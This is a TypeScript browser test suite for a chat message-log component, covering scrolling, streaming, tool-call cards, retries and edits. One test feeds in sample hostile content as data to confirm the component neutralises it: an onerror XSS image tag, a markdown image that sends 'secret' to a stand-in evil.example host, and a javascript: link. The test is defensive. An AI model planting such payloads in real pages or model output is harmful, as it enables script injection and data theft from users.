import '../styles/index.css'
import { addMessage, type Message, startToolCall, updateToolCall } from '@holdfast/conversation'
import type { OpenConversation, Store } from '@holdfast/store'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { page, userEvent } from 'vitest/browser'
import { render } from 'vitest-browser-react'
import { loadMarkdown, MessageLog } from '../src/index.ts'
import { fill, openMemoryStore } from './open-memory-store.ts'

let store: Store
let conversation: OpenConversation

beforeEach(async () => {
  await page.viewport(900, 700)
  await loadMarkdown()
  store = await openMemoryStore()
  conversation = await store.create({ title: 'Tides' })
})

afterEach(async () => {
  conversation.close()
  await store.close()
})

const noActions = {}

async function show(actions: Parameters<typeof MessageLog>[0]['actions'] = noActions) {
  const screen = await render(
    <div className="hf-root" style={{ display: 'flex', height: 600 }}>
      <MessageLog conversation={conversation} actions={actions} />
    </div>,
  )
  const log = screen.getByRole('log', { name: 'Messages' })
  await expect.element(log).toBeVisible()
  const box = log.element() as HTMLElement
  const rest = () => Math.round(box.scrollHeight - box.scrollTop - box.clientHeight)
  return { screen, box, rest, articles: () => box.querySelectorAll('article').length }
}

describe('a long conversation', () => {
  test('shows its end first, then all of it, and stays at its end', async () => {
    fill(conversation, 400)
    const { screen, articles, rest } = await show()
    expect(articles()).toBeLessThan(100)
    await expect.element(screen.getByText('Message number 399')).toBeVisible()
    await expect.poll(articles, { timeout: 20_000 }).toBe(400)
    await expect.poll(rest).toBe(0)
  })

  test('keeps what the reader looks at in its place while earlier messages come in', async () => {
    fill(conversation, 900)
    const { screen, box, articles } = await show()
    // A real wheel: while the log grows, only a scroll that follows a gesture is the reader's.
    await userEvent.wheel(box, { delta: { y: -400 } })
    await expect.element(screen.getByRole('button', { name: 'Jump to latest' })).toBeVisible()
    expect(articles()).toBeLessThan(900)
    const top = box.getBoundingClientRect().top
    const looked = [...box.querySelectorAll('article')].find((one) => one.getBoundingClientRect().bottom > top)
    const before = looked?.getBoundingClientRect().top ?? 0
    await expect.poll(articles, { timeout: 40_000 }).toBe(900)
    await expect.poll(() => Math.abs((looked?.getBoundingClientRect().top ?? 0) - before)).toBeLessThan(2)
  })
})

describe('while an answer streams', () => {
  function begin() {
    fill(conversation, 20)
    conversation.edit((doc) =>
      addMessage(doc, { id: 'live', role: 'assistant', createdAt: 5_000, parent: 'm19', status: 'streaming' }),
    )
    return conversation.stream('live')
  }

  test('the end stays in sight, and finished blocks are not rendered again', async () => {
    const writer = begin()
    const { box, rest } = await show()
    writer.text('The first paragraph.\n\n```ts\nconst a = 1\n```\n\n')
    await writer.flush()
    await expect.poll(() => box.querySelector('[data-message=live] pre')?.textContent).toContain('const a')
    const finished = box.querySelector('[data-message=live] .hf-markdown > div')
    const changed: MutationRecord[] = []
    const observer = new MutationObserver((records) => changed.push(...records))
    if (finished) observer.observe(finished, { childList: true, subtree: true, characterData: true })
    for (let i = 0; i < 30; i++) {
      writer.text(`More and more of it, number ${i}.\n\n`)
      await writer.flush()
    }
    await expect.poll(() => box.textContent).toContain('number 29')
    await expect.poll(rest).toBe(0)
    expect(changed).toEqual([])
    observer.disconnect()
    await writer.finish({ completedAt: 6_000 })
  })

  test('a reader who scrolled up is left alone, and can jump to the end', async () => {
    const writer = begin()
    const { screen, box, rest, articles } = await show()
    // All of it: while the log grows, only a scroll that follows a gesture is the reader's.
    await expect.poll(articles).toBe(21)
    await expect.poll(rest).toBe(0)
    await userEvent.wheel(box, { delta: { y: -300 } })
    const button = screen.getByRole('button', { name: 'Jump to latest' })
    await expect.element(button).toBeVisible()
    await expect.poll(rest).toBeGreaterThan(250)
    const was = box.scrollTop
    for (let i = 0; i < 10; i++) {
      writer.text(`Line ${i}.\n\n`)
      await writer.flush()
    }
    await expect.poll(() => box.textContent).toContain('Line 9')
    expect(Math.abs(box.scrollTop - was)).toBeLessThan(2)
    await button.click()
    await expect.poll(rest).toBe(0)
    await expect.poll(() => button.query()).toBeNull()
    await writer.finish({ completedAt: 6_000 })
  })
})

test('a tool call is a card with its state, input and output', async () => {
  conversation.edit((doc) => {
    addMessage(doc, { id: 'a', role: 'assistant', createdAt: 1, parent: null, parts: [] })
    startToolCall(doc, 'a', { callId: 'c', name: 'get_weather', input: { city: 'Oslo' } })
    updateToolCall(doc, { message: 'a', callId: 'c' }, { state: 'output-available', output: { sky: 'clear' } })
  })
  const { screen } = await show()
  const card = screen.getByText('Get weather')
  await expect.element(card).toBeVisible()
  await expect.element(screen.getByText('Done')).toBeVisible()
  await card.click()
  await expect.element(screen.getByText(/"sky": "clear"/)).toBeVisible()
})

test('what went wrong is said, with a way to retry', async () => {
  conversation.edit((doc) =>
    addMessage(doc, {
      id: 'a',
      role: 'assistant',
      createdAt: 1,
      parent: null,
      status: 'error',
      error: { code: 'UNREACHABLE', message: 'The endpoint cannot be reached.' },
      parts: [{ type: 'text', text: 'What had arrived' }],
    }),
  )
  const retried: string[] = []
  const { screen } = await show({ retry: (message) => retried.push(message.id) })
  await expect.element(screen.getByText('The endpoint cannot be reached.')).toBeVisible()
  await expect.element(screen.getByText('What had arrived')).toBeVisible()
  await screen.getByRole('button', { name: 'Retry' }).click()
  expect(retried).toEqual(['a'])
})

test('alternatives are counted and one step away', async () => {
  conversation.edit((doc) => {
    addMessage(doc, { id: 'q', role: 'user', createdAt: 1, parent: null, parts: [{ type: 'text', text: 'Question' }] })
    for (const id of ['a', 'b', 'c']) {
      const replaces = id === 'a' ? {} : { replaces: 'a' }
      addMessage(doc, {
        id,
        role: 'assistant',
        createdAt: 2,
        parent: 'q',
        ...replaces,
        parts: [{ type: 'text', text: `Answer ${id}` }],
      })
    }
  })
  const selected: string[] = []
  const { screen } = await show({ select: (id) => selected.push(id) })
  await expect.element(screen.getByText('3 / 3')).toBeVisible()
  await screen.getByRole('button', { name: 'Previous alternative' }).click()
  expect(selected).toEqual(['b'])
})

test('raw HTML and pictures from elsewhere in an answer are shown as text and links', async () => {
  conversation.edit((doc) =>
    addMessage(doc, {
      id: 'a',
      role: 'assistant',
      createdAt: 1,
      parent: null,
      parts: [
        {
          type: 'text',
          text: '<img src=x onerror="alert(1)"> ![leak](https://evil.example/?q=secret) [go](javascript:alert(1))',
        },
      ],
    }),
  )
  const { screen, box } = await show()
  await expect.element(screen.getByRole('link', { name: 'leak' })).toBeVisible()
  expect(box.querySelector('img')).toBeNull()
  expect(box.innerHTML).not.toContain('javascript:')
})

test('a message that cannot be shown leaves the others on the screen', async () => {
  fill(conversation, 2)
  const getMessage = conversation.getMessage
  const broken = {
    ...conversation,
    getMessage: (id: string) => {
      const message = getMessage(id)
      return id === 'm1' && message ? hostile(message) : message
    },
  }
  const screen = await render(<MessageLog conversation={broken} actions={noActions} />)
  await expect.element(screen.getByText(/Message number 0/)).toBeVisible()
  await expect.element(screen.getByText(/cannot be shown/)).toBeVisible()
})

const hostiles = new WeakMap<object, Message>()

/** The same object for the same message, as the store gives it. */
function hostile(message: Message): Message {
  const known = hostiles.get(message) ?? { ...message, createdAt: Number.NaN }
  hostiles.set(message, known)
  return known
}

describe('a question that is asked with other words', () => {
  test('keeps them in their form when it cannot be asked now, and Escape there stops nothing else', async () => {
    fill(conversation, 4)
    const asked: string[] = []
    let isFree = false
    const { screen } = await show({
      resend: (_message, text) => {
        if (isFree) asked.push(text)
        return isFree
      },
    })
    await screen.getByRole('button', { name: 'Edit' }).first().click()
    const form = screen.getByRole('textbox', { name: 'Edited question' })
    await form.fill('In other words')
    await userEvent.keyboard('{Enter}')
    await expect.element(form).toHaveValue('In other words')
    isFree = true
    await userEvent.keyboard('{Enter}')
    await expect.poll(() => form.query()).toBeNull()
    expect(asked).toEqual(['In other words'])

    await screen.getByRole('button', { name: 'Edit' }).first().click()
    const left: boolean[] = []
    const note = (event: KeyboardEvent) => void (event.key === 'Escape' && left.push(event.defaultPrevented))
    addEventListener('keydown', note)
    await userEvent.keyboard('{Escape}')
    removeEventListener('keydown', note)
    expect(left).toEqual([true])
    await expect.poll(() => form.query()).toBeNull()
  })
})
